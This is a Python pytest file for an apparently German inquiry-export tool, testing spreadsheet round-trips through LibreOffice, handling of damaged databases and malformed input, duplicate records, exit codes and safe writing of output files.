    out = book.parent / "offen"
    profile = f"-env:UserInstallation={(book.parent / 'profil').as_uri()}"
    words = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(out), str(book)]
    subprocess.run(words, check=True, capture_output=True, timeout=GUARD)
    for table in ET.parse(out / f"{book.stem}.fods").iter(TABLE + "table"):
        rows = []
        for row in table.iter(TABLE + "table-row"):
            cells: list[str] = []
            for cell in row.iter(TABLE + "table-cell"):
                assert cell.get(TABLE + "formula") is None and not [*cell.iter(TEXT + "a")]
                shown = "\n".join(words_in(line) for line in cell.iter(TEXT + "p"))
                count = int(cell.get(TABLE + "number-columns-repeated", 1))
                cells += [shown] * min(count, 99)  # the empty rest of a row is 16,000 wide
            rows.append(cells)
        yield str(table.get(TABLE + "name")), rows


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_same_cells(records: list[Inquiry], tmp_path: Path) -> None:
    book = tmp_path / "buch.xlsx"
    book.write_bytes(exported([*records[:40], *records[40::4], *map(poisoned, NASTY[::5])], "xlsx"))
    opened = openpyxl.load_workbook(book)
    sheets = dict(opened_by_libreoffice(book))
    assert [*sheets] == opened.sheetnames
    for sheet in opened:
        wanted = [[folded(in_german(value)) for value in row] for row in sheet.iter_rows(values_only=True)]
        found = [[folded(cell) for cell in row[: len(wanted[0])]] for row in sheets[sheet.title]][: len(wanted)]
        assert len(found) == len(wanted)
        assert found == wanted


def folded(cell: str) -> str:
    """A cell without its blanks: LibreOffice leaves out tabs where a cell has several lines."""
    return "\n".join("".join(line.split()) for line in unescaped(cell).split("\n"))


def in_german(value: Any) -> str:
    """A cell as people see it."""
    return value.strftime("%d.%m.%Y") if isinstance(value, dt.datetime) else shown(value)


@pytest.mark.parametrize("source", ["aus", "aus.jsonl", "aus.sqlite", "liste.json", "-"])
def test_wherever_records_are_kept(source: str, kept: Path) -> None:
    wanted = [row for line in (kept / "aus.jsonl").read_bytes().splitlines() if "error" not in (row := json.loads(line))]
    data = (kept / "aus.jsonl").read_bytes() if source == "-" else b""
    done = run("export", source if source == "-" else kept / source, "--to", "jsonl", "-o", "-", data=data)
    assert [json.loads(line) for line in done.stdout.splitlines()] == wanted and len(wanted) == 3
    assert ("ein Dokument ist keine Anfrage" in done.stderr) == (source in ("aus", "aus.jsonl", "-"))


def test_a_database_that_is_not_what_it_says(kept: Path, tmp_path: Path) -> None:
    for change, count in (
        ("UPDATE inquiries SET record = x'00ff'", 3),
        ("UPDATE inquiries SET record = 7", 3),
        ("DROP TABLE inquiries", 1),
    ):
        path = tmp_path / "a.sqlite"
        path.write_bytes((kept / "aus.sqlite").read_bytes())
        with contextlib.closing(sqlite3.connect(path)) as base:
            base.execute("PRAGMA journal_mode = DELETE")
            base.execute(change)
            base.commit()
        assert len(run("export", path, "-o", tmp_path / "a.csv", code=4).stderr.splitlines()) == count
        assert [p.name for p in tmp_path.iterdir()] == ["a.sqlite"]


def test_documents_themselves(kept: Path) -> None:
    done = run("export", kept / "in/brief.txt", "--to", "csv", "--rows", "inquiries", "-o", "-")
    assert len(read_back(done.stdout_bytes, "excel-de")) == 2
    done = run("export", kept / "in/brief.txt", kept / "in/antrag.txt", "--to", "jsonl", "-o", "-")
    assert len(done.stdout.splitlines()) == 1 and "antrag.txt: das ist keine Anfrage" in done.stderr


def test_what_goes_wrong(kept: Path, tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    run("export", kept / "in/antrag.txt", "-o", target, code=6)
    run("export", tmp_path / "fehlt.jsonl", "-o", target, code=4)
    run("export", tmp_path, "-o", target, code=4)
    (tmp_path / "fremd.sqlite").write_bytes(b"SQLite format 3\0" + bytes(100))
    run("export", tmp_path / "fremd.sqlite", "-o", target, code=4)
    (tmp_path / "tief.jsonl").write_bytes(b'{"schema_version": "1.0", "x": ' + b"[" * 100_000 + b"\n")
    run("export", tmp_path / "tief.jsonl", "-o", target, code=4)
    (tmp_path / "neu.jsonl").write_bytes(b'{"schema_version": "7.0"}\n')
    assert "7.0" in run("export", tmp_path / "neu.jsonl", "-o", target, code=4).stderr
    assert not target.exists()
    run("export", kept / "aus.jsonl", "-o", tmp_path / "a.doc", code=2)
    run("export", kept / "aus.jsonl", "-o", "-", code=2)
    for option in ("--to", "--rows", "--preset", "--lang"):
        run("export", kept / "aus.jsonl", option, "x", "-o", target, code=2)
    run("export", kept / "aus.jsonl", "-o", target)
    run("export", kept / "aus.jsonl", "-o", target, code=10)
    run("export", kept / "aus.jsonl", "-o", target, "--force")
    assert {p.name for p in tmp_path.iterdir()} == {"a.csv", "fremd.sqlite", "tief.jsonl", "neu.jsonl"}


@pytest.mark.parametrize(("times", "kept_rows"), [(1, "ein Datensatz kommt noch einmal vor"), (2, "6 Datensätze kommen noch einmal vor")])
@pytest.mark.parametrize(
    ("name", "once"), [("csv", False), ("xlsx", False), ("jsonl", False), ("sqlite", False), ("oparl", True), ("akn", True)]
)
def test_a_letter_filed_again_is_told(name: str, once: bool, times: int, kept_rows: str, kept: Path, tmp_path: Path) -> None:
    """Tables keep a row for every file and a line says so; the standards tell each inquiry once, and count what they tell."""
    lines = [line for line in (kept / "aus.jsonl").read_bytes().splitlines(keepends=True) if b'"error"' not in line[:60]]
    (tmp_path / "zwei.jsonl").write_bytes(b"".join([*lines * times, *(lines[:1] if times == 1 else lines)]))
    done = run("export", tmp_path / "zwei.jsonl", "--to", name, "--base-url", "https://rat.example/o", "-o", tmp_path / f"a.{name}")
    assert (kept_rows in done.stderr) == (not once)
    assert ("nur einmal in der Ausgabe" in done.stderr) == once
    assert f"a.{name}: {3 if once else 4 if times == 1 else 9} Datensätze" in done.stderr
    alone = run("export", kept / "aus.jsonl", "--to", name, "--base-url", "https://rat.example/o", "-o", tmp_path / f"b.{name}")
    assert "noch einmal" not in alone.stderr


def test_one_is_one(kept: Path, tmp_path: Path) -> None:
    assert run("export", kept / "in/brief.txt", "-o", tmp_path / "a.csv").stderr == f"{tmp_path / 'a.csv'}: 1 Datensatz\n"
    assert run("export", kept / "in/brief.txt", "--lang", "en", "-o", tmp_path / "b.csv").stderr.endswith(": 1 record\n")
    assert ": 3 Datensätze\n" in run("export", kept / "aus.jsonl", "-o", tmp_path / "c.csv").stderr


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx", "a.sqlite"])
def test_a_folder_that_is_not_there(name: str, kept: Path, tmp_path: Path) -> None:
    done = run("export", kept / "aus.jsonl", "-o", tmp_path / "fehlt" / name, code=10)
    assert done.stderr == f"anfrage: den Ordner {tmp_path / 'fehlt'} gibt es nicht; ihn anlegen oder ein anderes Ziel wählen\n"


def test_a_folder_of_letters_leads_to_batch(kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where letters make no sense; `export` and `stats` read them."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(kept / "in", "briefe")
    assert "briefe/antrag.txt: das ist keine Anfrage" in run("stats", "briefe").stderr
    done = run("validate", "briefe", code=4)
    assert "briefe: in dem Ordner stehen keine Datensätze; Briefe zuerst einlesen: anfrage batch briefe -o archiv.sqlite\n" in done.stderr
    run("batch", "briefe", "-o", "archiv.sqlite", "-j", "1")


def no_links(*paths: object) -> None:
    raise OSError(errno.EPERM, "this disk has no links")


@pytest.mark.parametrize("links", [True, False])
@pytest.mark.parametrize("ending", ["csv", "sqlite"])
@pytest.mark.parametrize("force", [True, False])
def test_a_file_that_comes_meanwhile_is_not_replaced(
    ending: str, links: bool, force: bool, kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another run that is quicker: its file lies there when ours is written."""
    target = tmp_path / f"a.{ending}"
    if not links:
        monkeypatch.setattr(os, "link", no_links)
    plain = records_of.Records.made

    def meanwhile(self: records_of.Records, row: Any) -> Inquiry:
        target.write_bytes(b"quicker")
        return plain(self, row)

    monkeypatch.setattr(records_of.Records, "made", meanwhile)
    done = run("export", kept / "aus.jsonl", "-o", target, *["--force"] * force, code=0 if force else 10)
    assert (target.read_bytes() == b"quicker") == (not force)
    assert ("3 Datensätze" in done.stderr, f"{target.name} gibt es schon" in done.stderr) == (force, not force)
    assert [path.name for path in tmp_path.iterdir()] == [target.name]


@pytest.mark.parametrize("links", [True, False])
def test_a_new_file_is_whole_with_and_without_links(links: bool, kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if not links:
        monkeypatch.setattr(os, "link", no_links)
    for name in ("a.jsonl", "a.sqlite"):
        run("export", kept / "aus.jsonl", "-o", tmp_path / name)
    assert len((tmp_path / "a.jsonl").read_bytes().splitlines()) == 3 and len(database(tmp_path / "a.sqlite")["inquiries"]) == 3
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.jsonl", "a.sqlite"]
    assert {path.stat().st_nlink for path in tmp_path.iterdir()} == {1}


def test_formats_are_listed() -> None:
    assert all(name in run("export", "--help").stdout for name in EXPORTERS)
